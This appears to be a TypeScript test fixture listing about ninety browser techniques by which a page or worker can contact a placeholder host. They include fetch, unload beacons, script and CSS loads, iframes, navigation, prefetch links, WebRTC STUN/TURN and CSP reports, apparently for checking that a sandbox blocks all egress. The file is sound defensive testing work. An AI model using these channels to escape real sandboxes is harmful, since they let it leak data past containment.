// Every way out of a page or a worker that we know of, by name. What a vector does is written as an
// agent would write it. $URL (over HTTP), $HOST, $ADDRESS (of the host) and $PORT (for UDP) stand for
// what it tries to reach; nobody else tries that.

export interface Vector {
  name: string;
  /** The body of an async function, or what goes into the page's head or body. */
  code?: string;
  head?: string;
  body?: string;
  /** Where it can be tried. */
  in: 'page' | 'worker' | 'both';
  /** Where it gets nowhere even when nothing is in its way; it is tried all the same. */
  silent?: 'page' | 'worker' | 'both';
  /** It may replace the page around the frame, or open others. */
  alone?: true;
  /** Chromium ends the process of the frame that tries it, and with it that of other frames: it comes last. */
  last?: true;
  /** It does its work when the frame is taken away. */
  whenRemoved?: true;
  /** Where nothing is in its way, the frame's own policy is one that reports to $HOST. */
  reports?: true;
}

const FETCH = "fetch('$URL')";
// Outside the page, where no listener of the page hears of it.
const click = (link: string) => `const a = document.createElement('a'); ${link}; a.click();`;
const submit = (attributes: string) =>
  `document.body.innerHTML += '<form action="$URL" ${attributes}><input name="a" value="b"></form>'; document.forms[0].submit();`;
const link = (attributes: string) => `<link ${attributes}>`;
const blobOf = (code: string, type = 'text/javascript') =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: '${type}' }))`;
// The frame may have lost its own; a frame inside it may have one still.
const PEER = `
  let Peer = window.RTCPeerConnection;
  if (!Peer) {
    const f = document.createElement('iframe');
    document.body.append(f);
    Peer = f.contentWindow.RTCPeerConnection;
  }`;
const connect = (configuration: string) => `${PEER}
  const pc = new Peer(${configuration});
  pc.createDataChannel('a');
  await pc.setLocalDescription(await pc.createOffer());`;
const candidate = (where: string) => `${PEER}
  const pc = new Peer(), other = new Peer();
  pc.createDataChannel('a');
  await pc.setLocalDescription(await pc.createOffer());
  await other.setRemoteDescription(pc.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  await pc.setRemoteDescription(other.localDescription);
  await pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ${where} $PORT typ host', sdpMid: '0', sdpMLineIndex: 0 });`;
const STUN = "{ iceServers: [{ urls: 'stun:$HOST:$PORT' }] }";
const TURN = "{ iceServers: [{ urls: 'turn:$HOST:3478?transport=tcp', username: 'a', credential: 'a' }] }";
const inFrame = (code: string) => `(async () => {${code.replaceAll('\n', ' ')} })()`;

export const VECTORS: Vector[] = [
  // Requests that a script makes.
  { name: 'fetch', in: 'both', code: FETCH },
  { name: 'fetch, no-cors and keepalive', in: 'both', code: "fetch('$URL', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'a' })" },
  { name: 'fetchLater', in: 'page', alone: true, code: "fetchLater('https://$HOST/', { activateAfter: 0 })" },
  { name: 'XMLHttpRequest', in: 'both', code: "const x = new XMLHttpRequest(); x.open('GET', '$URL'); x.send()" },
  { name: 'WebSocket', in: 'both', code: "new WebSocket('ws://$HOST/')" },
  { name: 'WebSocketStream', in: 'both', code: "new WebSocketStream('ws://$HOST/')" },
  { name: 'WebTransport', in: 'both', code: "new WebTransport('https://$HOST:$PORT/')" },
  { name: 'EventSource', in: 'both', code: "new EventSource('$URL')" },
  { name: 'navigator.sendBeacon', in: 'page', code: "navigator.sendBeacon('$URL', 'a')" },
  { name: 'navigator.sendBeacon on unload', in: 'page', whenRemoved: true, code: "addEventListener('pagehide', () => navigator.sendBeacon('$URL', 'a'))" },
  { name: 'fetch keepalive on unload', in: 'page', whenRemoved: true, code: "addEventListener('unload', () => fetch('$URL', { mode: 'no-cors', keepalive: true }))" },
  { name: 'fetch on return from the back-forward cache', in: 'page', silent: 'page', whenRemoved: true, code: "addEventListener('pageshow', () => fetch('$URL')); addEventListener('freeze', () => fetch('$URL', { keepalive: true }))" },
  { name: 'caches.add', in: 'both', code: "(await caches.open('a')).add('$URL')" },
  { name: 'FontFace()', in: 'both', code: "new FontFace('a', 'url($URL)').load()" },
  { name: 'federated credentials', in: 'page', code: "navigator.credentials.get({ identity: { providers: [{ configURL: 'https://$HOST/', clientId: 'a' }] } })" },

  // Code from elsewhere.
  { name: 'script src', in: 'page', code: "const s = document.createElement('script'); s.src = '$URL'; document.body.append(s)" },
  { name: 'script src in the page', in: 'page', body: '<script src="$URL"></script>' },
  { name: 'module script', in: 'page', body: '<script type="module" src="$URL"></script>' },
  { name: 'import map', in: 'page', body: '<script type="importmap">{"imports":{"a":"$URL"}}</script><script type="module">import "a"</script>' },
  { name: 'dynamic import', in: 'both', code: "import('$URL')" },
  { name: 'importScripts', in: 'worker', code: "importScripts('$URL')" },
  { name: 'worklet', in: 'page', code: "new AudioContext().audioWorklet.addModule('$URL')" },
  { name: 'javascript: URL', in: 'page', code: 'location.href = "javascript:void fetch(\'$URL\')"' },
  { name: 'worker by URL', in: 'both', silent: 'both', code: "new Worker('$URL')" },
  { name: 'shared worker by URL', in: 'page', silent: 'page', code: "new SharedWorker('$URL')" },
  { name: 'shared blob worker and fetch', in: 'page', code: `new SharedWorker(${blobOf(FETCH)})` },
  { name: 'service worker', in: 'page', silent: 'page', code: "navigator.serviceWorker.register('$URL')" },
  { name: 'nested blob worker and fetch', in: 'both', code: `new Worker(${blobOf(FETCH)})` },
  { name: 'nested blob worker and importScripts', in: 'both', code: `new Worker(${blobOf("importScripts('$URL')")})` },
  { name: 'nested module worker and import', in: 'both', code: `new Worker(${blobOf("import '$URL'")}, { type: 'module' })` },
  { name: 'data: worker and fetch', in: 'both', code: `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(FETCH)}))` },

  // Pictures, sound, fonts and style.
  { name: 'Image()', in: 'page', code: "new Image().src = '$URL'" },
  { name: 'img', in: 'page', body: '<img src="$URL">' },
  { name: 'picture and srcset', in: 'page', body: '<picture><source srcset="$URL 1x"><img></picture>' },
  { name: 'input type=image', in: 'page', body: '<input type="image" src="$URL">' },
  { name: 'body background', in: 'page', code: "document.body.setAttribute('background', '$URL')" },
  { name: 'svg image', in: 'page', body: '<svg><image href="$URL" width="9" height="9"/></svg>' },
  { name: 'svg use', in: 'page', silent: 'page', body: '<svg><use href="$URL#a"/></svg>' },
  { name: 'svg feImage', in: 'page', body: '<svg width="9" height="9"><filter id="f"><feImage href="$URL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>' },
  { name: 'video', in: 'page', body: '<video src="$URL" preload="auto"></video>' },
  { name: 'video poster', in: 'page', body: '<video poster="$URL"></video>' },
  { name: 'audio', in: 'page', body: '<audio src="$URL" preload="auto"></audio>' },
  { name: 'track', in: 'page', body: '<video crossorigin><track src="$URL" default kind="captions"></video><script>document.querySelector("track").track.mode = "showing"</script>' },
  { name: 'object', in: 'page', body: '<object data="$URL"></object>' },
  { name: 'embed', in: 'page', body: '<embed src="$URL">' },
  { name: 'link stylesheet', in: 'page', head: link('rel="stylesheet" href="$URL"') },
  { name: 'CSS url()', in: 'page', head: '<style>html { background: url($URL) }</style>' },
  { name: 'CSS image-set() in an attribute', in: 'page', body: '<p style="background: image-set(\'$URL\' 1x)">a</p>' },
  { name: 'CSS @import', in: 'page', head: '<style>@import "$URL";</style>' },
  { name: 'CSS @font-face', in: 'page', head: '<style>@font-face { font-family: a; src: url($URL) } body { font-family: a }</style>', body: '<p>a</p>' },

  // Frames.
  { name: 'iframe src', in: 'page', body: '<iframe src="$URL"></iframe>' },
  { name: 'iframe srcdoc and fetch', in: 'page', body: `<iframe srcdoc="<script>${FETCH}</script>"></iframe>` },
  { name: 'blob iframe and fetch', in: 'page', code: `const f = document.createElement('iframe'); f.src = ${blobOf(`<script>${FETCH}</script>`, 'text/html')}; document.body.append(f)` },
  { name: 'about:blank iframe and fetch', in: 'page', code: "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('$URL')" },
  { name: 'fencedframe', in: 'page', silent: 'page', code: "const f = document.createElement('fencedframe'); document.body.append(f); f.config = new FencedFrameConfig('https://$HOST/')" },
  { name: 'portal', in: 'page', silent: 'page', body: '<portal src="$URL"></portal>' },

  // Going elsewhere.
  { name: 'location.href', in: 'page', code: "location.href = '$URL'" },
  { name: 'location.replace', in: 'page', code: "location.replace('$URL')" },
  { name: 'navigation.navigate', in: 'page', code: "navigation.navigate('$URL')" },
  { name: 'meta refresh', in: 'page', head: '<meta http-equiv="refresh" content="0; url=$URL">' },
  { name: 'a.click()', in: 'page', code: click("a.href = '$URL'") },
  { name: 'a link in a shadow tree', in: 'page', code: `const p = document.createElement('p'); document.body.append(p); const root = p.attachShadow({ mode: 'closed' }); root.innerHTML = '<a href="$URL">a</a>'; root.firstChild.click()` },
  { name: 'a[download].click()', in: 'page', code: click("a.href = '$URL'; a.download = 'a'") },
  { name: 'a[target=_blank].click()', in: 'page', alone: true, code: click("a.href = '$URL'; a.target = '_blank'") },
  { name: 'a ping', in: 'page', code: click("a.href = '#a'; a.ping = '$URL'") },
  { name: 'form GET', in: 'page', code: submit('') },
  { name: 'form POST', in: 'page', code: submit('method="post"') },
  { name: 'form target _blank', in: 'page', alone: true, code: submit('method="post" target="_blank"') },
  { name: 'window.open', in: 'page', alone: true, code: "window.open('$URL')" },
  { name: 'top.location', in: 'page', alone: true, code: "top.location = '$URL'" },
  { name: 'parent.location', in: 'page', alone: true, code: "parent.location.replace('$URL')" },
  { name: 'history.pushState', in: 'page', silent: 'page', code: "history.pushState({}, '', '$URL')" },
  { name: 'document.domain', in: 'page', silent: 'page', code: "document.domain = 'sink.test'; fetch('$URL')" },

  // Ahead of need.
  { name: 'link prefetch', in: 'page', head: link('rel="prefetch" href="$URL"') },
  { name: 'link preload', in: 'page', head: link('rel="preload" href="$URL" as="image"') },
  { name: 'link modulepreload', in: 'page', head: link('rel="modulepreload" href="$URL"') },
  { name: 'link preconnect', in: 'page', head: link('rel="preconnect" href="$URL"') },
  { name: 'link dns-prefetch', in: 'page', head: link('rel="dns-prefetch" href="$URL"') },
  { name: 'link prerender', in: 'page', silent: 'page', head: link('rel="prerender" href="$URL"') },
  { name: 'link icon', in: 'page', silent: 'page', head: link('rel="icon" href="$URL"') },
  { name: 'link manifest', in: 'page', silent: 'page', head: link('rel="manifest" href="$URL"') },
  { name: 'link compression-dictionary', in: 'page', head: link('rel="compression-dictionary" href="$URL"') },
  { name: 'speculation rules', in: 'page', silent: 'page', body: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://$HOST/"],"eagerness":"immediate"}]}</script>' },

  // WebRTC.
  { name: 'WebRTC, STUN', in: 'both', silent: 'worker', code: connect(STUN) },
  { name: 'WebRTC, TURN', in: 'both', silent: 'worker', code: connect(TURN) },
  { name: 'WebRTC, own ICE host candidates', in: 'both', silent: 'both', code: connect('{}') },
  { name: 'WebRTC, ICE candidate by address', in: 'both', silent: 'worker', code: candidate('$ADDRESS') },
  { name: 'WebRTC, ICE candidate by name', in: 'both', silent: 'worker', code: candidate('$HOST') },
  { name: 'WebRTC of a javascript: iframe', in: 'page', last: true, body: `<iframe src="javascript:${inFrame(connect(STUN))}"></iframe>` },
  { name: 'WebRTC of a srcdoc iframe', in: 'page', last: true, body: `<iframe srcdoc="<script>${inFrame(connect(STUN))}</script>"></iframe>` },
  { name: 'WebRTC of a srcdoc iframe, TURN', in: 'page', last: true, body: `<iframe srcdoc="<script>${inFrame(connect(TURN))}</script>"></iframe>` },
  { name: 'WebRTC of a srcdoc iframe, ICE candidate', in: 'page', last: true, body: `<iframe srcdoc="<script>${inFrame(candidate('$ADDRESS'))}</script>"></iframe>` },

  // What a browser tells by itself.
  { name: 'CSP report-uri', in: 'page', reports: true, body: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">' },
  { name: 'CSP report-uri in a meta element', in: 'page', silent: 'page', head: `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri $URL">`, body: '<img src="data:,a">' },
  { name: 'Reporting API', in: 'page', silent: 'page', head: `<meta http-equiv="reporting-endpoints" content='default="https://$HOST/"'>`, body: '<script>new ReportingObserver(() => {}).observe(); navigator.vibrate?.(1)</script>' },
];

/** Puts what a vector tries to reach in place of the words that stand for it. */
export function aim(text: string, target: { name: string; address: string; port: number }): string {
  const words: Record<string, string> = {
    $URL: `http://${target.name}/`,
    $HOST: target.name,
    $ADDRESS: target.address,
    $PORT: String(target.port),
  };
  return text.replace(/\$(?:URL|HOST|ADDRESS|PORT)/g, (word) => words[word]!);
}
